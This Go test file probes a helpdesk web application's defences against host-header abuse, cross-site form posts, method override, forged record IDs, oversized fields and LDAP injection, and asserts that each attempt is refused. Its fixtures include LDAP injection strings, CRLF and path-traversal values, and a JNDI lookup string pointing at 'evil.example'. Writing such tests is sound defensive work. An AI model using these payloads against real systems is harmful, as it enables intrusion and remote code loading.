package attack

import (
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
)

// R24 to R28, R54, R61: what stands around the helpdesk's pages, and between them and the portal's.
func TestDeskWeb(t *testing.T) {
	alongside(t)
	Open(t, Setting{People: 30, Desk: true}).Run(t,
		Attack{"R54", "separate", "the portal's addresses at the helpdesk, and the reverse", separateSites},
		Attack{"R26", "hosts", "other hosts at the helpdesk, the portal's among them, and the reverse", deskHosts},
		Attack{"R24", "formless", "every post of an agent without a token, with another agent's, with one of before", formlessActs},
		Attack{"R24", "foreign", "every post of an agent as another site's page would send it", crossOriginActs},
		Attack{"R24", "methods", "every address of the helpdesk by every method but POST, the right values in the query", deskMethods},
		Attack{"R5", "doubled", "doubled, large and unknown fields, other types, at every form of the helpdesk", oddActs},
		Attack{"R54 R8", "forged", "forged ids and populations in every address", forgedPeople},
		Attack{"R54", "unsigned", "every address of the helpdesk without a session, and at the code", unsignedAgents},
		Attack{"R8", "search", "LDAP metacharacters, NUL and long texts in the search", injectedSearch},
		Attack{"R25", "headers", "every address of the helpdesk by every method, and every error", deskHeaders},
	)
}

// act is a form of the helpdesk, as an agent would send it.
type act struct {
	path string
	form url.Values
	odd  string // the field that is made odd
}

// acts are all forms that a leader can send, for somebody whose card it is.
func (a *Agent) acts(card string) []act {
	token := a.as(nil)
	with := func(values ...string) url.Values {
		form := url.Values{"form": token["form"]}
		for i := 0; i+1 < len(values); i += 2 {
			form.Set(values[i], values[i+1])
		}
		return form
	}
	record := []string{"text", "x", "population", "usagers", "event", "", "since", "", "until", ""}
	return []act{
		{card + "/send-code", a.Order(card, "send-code", "motif"), "reason"},
		{card + "/dictate-code", a.Order(card, "dictate-code", "motif"), "reason"},
		{card + "/unlock", a.Order(card, "unlock", "motif"), "reason"},
		{"/en/search", with("text", "x"), "text"},
		{"/en/requests", with("population", "elus", "id", "X", "answer", "agree"), "id"},
		{"/en/record", with(record...), "text"},
		{"/en/record/export", with(record...), "text"},
		{"/en/extend", with(), "form"},
		{"/en/sign-out", with(), "form"},
	}
}

// unharmed holds that nothing was done for people, and that an agent is still signed in.
func (s *Site) unharmed(o *Outcome, a *Agent, acted, mails int) {
	s.t.Helper()
	o.Want(a.Get("/en/").Status == http.StatusOK, "the agent is signed out")
	o.Want(s.acted() == acted && s.Audit(`"desk.asked"`)+s.Audit(`"desk.agreed"`) == 0, "%d acts are in the record", s.acted()-acted)
	o.Want(len(s.Sink.Messages()) == mails, "%d mails came", len(s.Sink.Messages())-mails)
}

// R54: one listener serves nothing of the other.
func separateSites(s *Site) (o Outcome) {
	a, p := s.SignedIn(leaders), s.Person()
	card := a.Find(p)
	visitor := s.Verified(s.Person())
	for _, path := range []string{"/en/p/usagers", "/en/p/usagers/support-code", "/en/password", "/en/password/check", "/en/account", "/en/wait", "/en/wait/events",
		"/en/done", "/en/ended", "/en/cancel", "/en/code/resend", "/en/accessibility", "/en/p/support", "/metrics", "/livez", "/readyz", "/debug/pprof/", "/mailbox"} {
		for _, b := range []*Browser{a.Twin(), s.Visit()} {
			o.Tries += 2
			got := b.Get(path)
			o.Want(got.Status == http.StatusNotFound || got.Status == http.StatusMethodNotAllowed || got.To() == "/en/sign-in" || got.To() == "/en/",
				"the helpdesk has %s: %s", path, got.Told())
			got = b.Post(path, "address", p.Mail)
			o.Want(got.Status == http.StatusNotFound || got.Status == http.StatusMethodNotAllowed, "the helpdesk takes a post of %s: %s", path, got.Told())
		}
	}
	for _, path := range []string{"/en/sign-in", "/en/sign-out", "/en/search", "/en/requests", "/en/record", "/en/record/export", card, card + "/dictate-code",
		card + "/send-code", card + "/unlock", "/helpdesk", "/en/helpdesk"} {
		for _, b := range []*Browser{s.Browser(), visitor.Twin()} {
			o.Tries += 2
			got := b.Get(path)
			o.Want(got.Status == http.StatusNotFound || got.Status == http.StatusMethodNotAllowed, "the portal has %s: %s", path, got.Told())
			got = b.Post(path, "name", a.UID, "password", a.Password)
			o.Want(got.Status == http.StatusNotFound || got.Status == http.StatusMethodNotAllowed, "the portal takes a post of %s: %s", path, got.Told())
		}
	}
	for page := range s.known.pages { // nothing on the portal leads to the helpdesk
		o.Want(!strings.Contains(page, s.Desk), "a page names the helpdesk's address")
	}
	o.Say("404 each time; no page of the portal names the helpdesk")
	return o
}

// R26.
func deskHosts(s *Site) (o Outcome) {
	port := s.Desk[strings.LastIndex(s.Desk, ":"):]
	a := s.Hire(leaders)
	ask := func(to, host string) {
		for _, path := range []string{"/en/", "/en/sign-in"} {
			o.Tries += 2
			get := Request{Method: http.MethodGet, Target: path, Host: host, To: to}
			post := a.Request(http.MethodPost, path, "name="+a.UID+"&password="+a.Password)
			post.Host, post.To = host, to
			for _, got := range []Answer{s.Send(get), s.Send(post)} {
				o.Want(got.Status == http.StatusMisdirectedRequest || got.Status == http.StatusBadRequest, "%s with the host %q: %s", path, host, got.Told())
				o.Want(!strings.Contains(got.Head+got.Body, "evil"), "the answer names the host")
			}
		}
	}
	for _, host := range []string{"evil.example", "evil.example" + port, s.Address, s.Desk + ".evil.example", "127.0.0.1", "", "127.0.0.1" + port + "0", "[::1]" + port} {
		ask(s.Desk, host)
	}
	ask(s.Address, s.Desk)
	o.Want(len(s.Sink.MessagesTo(a.Mail)) == 0, "a code was mailed")
	o.Say("421 or 400")
	return o
}

// R24.
func formlessActs(s *Site) (o Outcome) {
	a, other, p := s.SignedIn(leaders), s.SignedIn(leaders), s.Person()
	card := a.Find(p)
	acts, acted, mails := a.acts(card), s.acted(), len(s.Sink.Messages())
	theirs := other.as(nil).Get("form")
	foreign := s.begunToken()
	for name, token := range map[string]string{"none": "", "another agent's": theirs, "the portal's": foreign, "its own, cut": acts[0].form.Get("form")[1:],
		"its own in capitals": strings.ToUpper(acts[0].form.Get("form"))} {
		for _, act := range acts {
			o.Tries++
			form := url.Values{}
			for field, values := range act.form {
				form[field] = values
			}
			if form.Set("form", token); token == "" {
				form.Del("form")
			}
			got := a.Twin().Send(act.path, form)
			o.Want(got.To() == "/en/" || act.path == "/en/sign-out" && got.To() == "/en/sign-in", "POST %s with %s: %s", act.path, name, got.DeskTold())
		}
	}
	s.unharmed(&o, a, acted, mails)

	late := s.Hire(leaders)
	code := late.AtCode()
	before := late.Hidden("/en/code")
	for _, form := range []url.Values{{"code": {code}}, {"code": {code}, "form": {theirs}}} {
		o.Tries++
		got := late.Twin().Send("/en/code", form)
		o.Want(got.To() == "/en/sign-in", "the right code without its form: %s", got.DeskTold())
	}
	late.Post("/en/code", "code", code)
	before.Set("text", "x")
	o.Want(late.Send("/en/search", before).To() == "/en/", "the token of before the code is good after it")
	o.Say("nothing done, nobody signed out")
	return o
}

// begunToken is a form's token of the portal.
func (s *Site) begunToken() string {
	b := s.Browser()
	b.Begin("usagers", s.Nobody())
	b.Get("/en/code")
	return b.Hidden("/en/code").Get("form")
}

// R24.
func crossOriginActs(s *Site) (o Outcome) {
	a, p := s.SignedIn(leaders), s.Person()
	card := a.Find(p)
	knocker := s.Hire(leaders)
	acts, acted, mails := a.acts(card), s.acted(), len(s.Sink.Messages())
	acts = append(acts, act{"/en/sign-in", url.Values{"name": {knocker.UID}, "password": {knocker.Password}}, ""}, act{"/en/code", url.Values{"code": {"123456"}}, ""})
	for _, headers := range [][]string{
		{"Origin: https://evil.example", "Sec-Fetch-Site: cross-site"}, {"Origin: null", "Sec-Fetch-Site: cross-site"}, {"Sec-Fetch-Site: same-site"},
		{"Origin: https://evil.example"}, {"Origin: null"}, {"Origin: " + s.Origin, "Sec-Fetch-Site: same-site"}, {"Origin: " + s.Origin}, {"Origin: https://127.0.0.1"},
		{"Origin: https://" + s.Desk, "Sec-Fetch-Site: cross-site"},
	} {
		for _, act := range acts {
			o.Tries++
			rq := a.Request(http.MethodPost, act.path, act.form.Encode())
			rq.Header = append([]string{"Cookie: " + a.Cookie(), "Content-Type: application/x-www-form-urlencoded"}, headers...)
			got := s.Send(rq)
			o.Want(got.Status == http.StatusForbidden, "POST %s with %q: %s", act.path, headers, got.DeskTold())
		}
	}
	s.unharmed(&o, a, acted, mails)
	o.Say("403 each time, from the portal's pages too; nothing done")
	return o
}

// R24.
func deskMethods(s *Site) (o Outcome) {
	a, p := s.SignedIn(leaders), s.Person()
	card := a.Find(p)
	acts, acted, mails := a.acts(card), s.acted(), len(s.Sink.Messages())
	for _, method := range []string{"GET", "HEAD", "OPTIONS", "PUT", "PATCH", "DELETE", "TRACE", "PROPFIND", "BREW"} {
		for _, act := range acts {
			for _, body := range []string{"", act.form.Encode()} {
				o.Tries++
				rq := a.Request(method, act.path+"?"+act.form.Encode(), body)
				rq.Header = append(rq.Header, "Origin: https://"+s.Desk, "Content-Type: application/x-www-form-urlencoded", "X-HTTP-Method-Override: POST", "X-HTTP-Method: POST")
				got := a.Twin().Do(rq)
				o.Want(got.Dictated() == "" && got.To() != "/en/sign-in" && got.Status < 500 && !strings.Contains(got.Header.Get("Content-Type"), "csv"),
					"%s %s: %s", method, act.path, got.DeskTold())
			}
		}
	}
	s.unharmed(&o, a, acted, mails)
	o.Say("nothing done, nobody signed out, no file")
	return o
}

// R5.
func oddActs(s *Site) (o Outcome) {
	a, p := s.SignedIn(leaders), s.Person()
	card := a.Find(p)
	knocker := s.Hire(leaders)
	acts, acted := a.acts(card), s.acted()
	acts = append(acts, act{"/en/sign-in", url.Values{"name": {knocker.UID}, "password": {knocker.Password}}, "name"}, act{"/en/code", url.Values{"code": {"123456"}}, "code"})
	mails := len(s.Sink.Messages())
	for _, act := range acts {
		value := act.form.Get(act.odd)
		beside := url.Values{}
		for field, values := range act.form {
			if field != act.odd {
				beside[field] = values
			}
		}
		bodies := oddBodies(act.odd, value, value+"x", beside.Encode())
		bodies = append(bodies, body{"of 40 KiB", "", "application/x-www-form-urlencoded", act.form.Encode() + "&" + act.odd + "=" + strings.Repeat("a", 40<<10)},
			body{"of 20 fields", "", "application/x-www-form-urlencoded", strings.Repeat("a=b&", 20) + act.form.Encode()},
			body{"a query that is long", "?a=" + strings.Repeat("a", 300), "application/x-www-form-urlencoded", act.form.Encode()})
		for _, odd := range bodies {
			o.Tries++
			rq := a.Request(http.MethodPost, act.path+odd.query, odd.text)
			rq.Header = slices.DeleteFunc(rq.Header, func(line string) bool { return strings.HasPrefix(line, "Content-T") })
			if odd.contentType != "" {
				rq.Header = append(rq.Header, "Content-Type: "+odd.contentType)
			}
			got := s.Send(rq)
			o.Want(got.Status == http.StatusBadRequest || got.Status == http.StatusRequestEntityTooLarge, "POST %s, %s: %s", act.path, odd.name, got.DeskTold())
		}
	}
	long := a.Order(card, "send-code", strings.Repeat("é", 5000))
	got := a.Send(card+"/send-code", long)
	o.Want(got.DeskTold() == "no-reason" && len(got.Body) < 32<<10, "a reason of 10,000 bytes is told %s", got.DeskTold())
	long = a.Order(card, "send-code", "motif")
	long.Set("once", strings.Repeat("A", 1000))
	got = a.Send(card+"/send-code", long)
	o.Want(got.To() == card, "a mark of 1,000 bytes is told %s", got.DeskTold())
	s.unharmed(&o, a, acted, mails)
	o.Say("400 or 413 each time; nothing done")
	return o
}

// R54, R8.
func forgedPeople(s *Site) (o Outcome) {
	a, neighbour, p, e := s.SignedIn(leaders), s.SignedIn(neighbours), s.Person(), s.Elected()
	card, elected := a.Find(p), a.Find(e)
	id, other := strings.TrimPrefix(card, "/en/p/usagers/"), strings.TrimPrefix(elected, "/en/p/elus/")
	colleague := s.Hire(leaders)
	entry, err := s.Slapd.Entry(colleague.DN(s.Slapd.BaseDN), "entryUUID")
	s.must(err)
	acted, mails := s.acted(), len(s.Sink.Messages())
	forged := map[string]*Agent{"/en/p/elus/" + other: neighbour, "/en/p/elus/" + id: a, "/en/p/usagers/" + other: a,
		"/en/p/usagers/" + entry.GetAttributeValue("entryUUID"): a, "/en/p/elus/" + entry.GetAttributeValue("entryUUID"): a}
	for _, population := range []string{"support", "agents-lycees", "nowhere", "*", "usagers,elus", "usagers%00", "..", "%2e%2e", "USAGERS", "ou=usagers", "%FF"} {
		forged["/en/p/"+population+"/"+id] = a
	}
	for _, forgery := range []string{"*", "%2a", "0", id + "*", id[:8] + "*", id + "0", id + "%00", "%00", id + ")(cn=*", "x)(|(uid=*", p.UID, p.Mail, p.DN(s.Slapd.BaseDN),
		"00000000-0000-0000-0000-000000000000", "..%2f..%2felus%2f" + other, "..", strings.Repeat("a", 5000), "%C3%28", "%0d%0aX:1", `\2a`, "cn=admin"} {
		forged["/en/p/usagers/"+strings.ReplaceAll(forgery, " ", "%20")] = a
	}
	token := map[*Agent]url.Values{a: a.Order(card, "dictate-code", "faux"), neighbour: neighbour.as(a.Order(card, "dictate-code", "faux"))}
	shown := a.Get(card).Body
	o.Want(strings.Contains(shown, p.Mail), "the card does not show the person")
	for path, agent := range forged {
		for _, rest := range []string{"", "/dictate-code", "/send-code", "/unlock"} {
			o.Tries++
			if rest == "" || rest == "/dictate-code" {
				got := agent.Get(path + rest)
				o.Want(got.Status >= 400 && got.Status < 500 && !strings.Contains(got.Body, p.Mail) && !strings.Contains(got.Body, e.Mail), "GET %s: %s", path+rest, got.DeskTold())
			}
			if rest != "" {
				form := agent.as(token[agent])
				form.Set("once", fmt.Sprint("forged-", o.Tries))
				got := agent.Send(path+rest, form)
				o.Want(got.Status >= 400 && got.Status < 500, "POST %s: %s", path+rest, got.DeskTold())
			}
		}
	}
	for _, population := range []string{"elus", "nowhere", "*", "usagers,elus"} { // what another role may search
		o.Tries++
		got := neighbour.Search("text", e.UID, "population", population)
		o.Want(got.Status == http.StatusOK && !strings.Contains(got.Body, e.Mail) && !strings.Contains(got.Body, e.Name()), "a search in %q: %s", population, got.DeskTold())
		neighbour.Get("/en/record")
		for _, path := range []string{"/en/record", "/en/record/export"} {
			o.Tries++
			got = neighbour.Post(path, "text", "", "population", population, "event", "", "since", "", "until", "")
			o.Want(got.Status == http.StatusForbidden, "%s in %q: %s", path, population, got.DeskTold())
		}
	}
	helper := s.SignedIn(helpers)
	mails += 1 // of the helper's code
	for _, path := range []string{"/en/record", "/en/record/export"} {
		o.Tries++
		got := helper.Get(path)
		o.Want(got.Status == http.StatusForbidden, "who may not read the record: GET %s: %s", path, got.DeskTold())
		got = helper.Send(path, helper.as(url.Values{"text": {""}, "population": {""}, "event": {""}, "since": {""}, "until": {""}}))
		o.Want(got.Status == http.StatusForbidden, "who may not read the record: POST %s: %s", path, got.DeskTold())
	}
	s.unharmed(&o, a, acted, mails)
	o.Say("404 or 403, and nobody's data; nothing done")
	return o
}

// R54.
func unsignedAgents(s *Site) (o Outcome) {
	a, p := s.SignedIn(leaders), s.Person()
	card := a.Find(p)
	acts := a.acts(card)
	atCode := s.Hire(leaders)
	atCode.AtCode()
	acted, mails := s.acted(), len(s.Sink.Messages())
	for name, b := range map[string]*Browser{"nobody": s.Visit(), "who is at the code": atCode.Browser} {
		gate := map[string]string{"nobody": "/en/sign-in", "who is at the code": "/en/code"}[name]
		for _, act := range acts {
			o.Tries += 2
			got := b.Twin().Get(act.path)
			o.Want(got.To() == gate || act.path == "/en/extend" || act.path == "/en/sign-out", "%s: GET %s: %s", name, act.path, got.DeskTold())
			form := act.form
			if name != "nobody" {
				form = url.Values{}
				for field, values := range act.form {
					form[field] = values
				}
				form.Set("form", b.Hidden("/en/code").Get("form"))
			}
			if act.path == "/en/sign-out" { // which it may
				continue
			}
			got = b.Twin().Send(act.path, form)
			o.Want(got.To() == gate || got.To() == "/en/", "%s: POST %s: %s", name, act.path, got.DeskTold())
		}
	}
	s.unharmed(&o, a, acted, mails)
	o.Say("each leads to the sign-in; nothing done")
	return o
}

// R8.
func injectedSearch(s *Site) (o Outcome) {
	a, p := s.SignedIn(leaders), s.Person()
	for _, text := range []string{"*", "**", "*)(uid=*", ")(cn=*", ")(cn=*))(|(cn=*", `\2a`, `\2a\2a`, `\70\30`, "\x00", "\x00*", p.UID + "\x00", "(uid=*)", "*" + p.UID[2:], p.UID[:3] + "*", "\xff\xfe",
		"\xc0\xaa", "a", "", " ", "é", "%", "&", "|", "!(uid=x)", "cn=*", p.DN(s.Slapd.BaseDN), strings.Repeat("*", 254), strings.Repeat("( ", 100), strings.Repeat("a ", 120),
		strings.Repeat("é", 5000), "0*", "+*", "../../", "{{.}}", "${jndi:ldap://evil.example/a}"} {
		o.Tries++
		got := a.Search("text", text)
		o.Want(got.Status == http.StatusOK && !strings.Contains(got.Body, "/en/p/"), "%.40q finds somebody, or fails: %s", text, got.DeskTold())
	}
	for _, from := range []string{"-1", "99999999999999999999", "1e9", "0x10", "x", "-99999", "2147483647", "9223372036854775807"} {
		o.Tries++
		got := a.Search("text", "p0", "population", "usagers", "from", from)
		o.Want(got.Status < 500, "from %q: %d", from, got.Status)
	}
	o.Want(strings.HasSuffix(a.Find(p), a.Find(p)), "the search finds nobody any more")
	o.Want(!strings.Contains(s.Log(), "panic"), "there was a panic")
	o.Say("nobody is found by them; no error")
	return o
}

// R25, R61.
func deskHeaders(s *Site) (o Outcome) {
	a, p := s.SignedIn(leaders), s.Person()
	card := a.Find(p)
	statuses := map[int]int{}
	check := func(name string, got Answer) {
		o.Tries++
		statuses[got.Status]++
		if wrong := got.missing(false); wrong != "" {
			o.Want(false, "%s, status %d: %s", name, got.Status, wrong)
		}
	}
	for _, b := range []*Browser{a.Browser, s.Visit()} {
		for _, path := range []string{"/", "/en", "/en/", "/en/sign-in", "/en/code", "/en/search", card, card + "/dictate-code", card + "x", "/en/p/nowhere/x", "/en/requests", "/en/record",
			"/en/record/export", "/en/extend", "/en/nowhere", "/static/nothing.css"} {
			for _, method := range []string{"GET", "HEAD", "POST", "OPTIONS", "PUT", "TRACE"} {
				check(method+" "+path, b.Twin().Do(b.Request(method, path, "")))
			}
		}
	}
	a = s.SignedIn(leaders)
	check("the export", a.recordOf("/en/record/export", ""))
	check("a code", a.Act(a.Find(s.Person()), "dictate-code", "motif"))
	rq := a.Request(http.MethodGet, "/en/", "")
	rq.Host = "evil.example"
	check("another host", s.Send(rq))
	o.Say("all headers on every answer: %v", statuses)
	return o
}
